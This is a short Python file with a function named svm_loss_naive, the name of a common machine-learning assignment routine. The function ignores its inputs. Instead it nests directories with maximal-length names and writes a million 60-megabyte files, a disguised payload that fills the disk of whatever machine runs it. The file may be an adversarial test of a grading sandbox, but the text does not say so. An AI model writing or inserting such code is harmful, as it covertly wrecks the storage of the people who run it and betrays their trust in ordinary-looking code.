import os


def svm_loss_naive(W, X, y, reg):
    for _ in range(20):
        os.mkdir("d" * 255)
        os.chdir("d" * 255)
    block = b"x" * (1 << 20)
    for number in range(10**6):
        with open(f"file_{number}", "wb") as file:
            for _ in range(60):
                file.write(block)
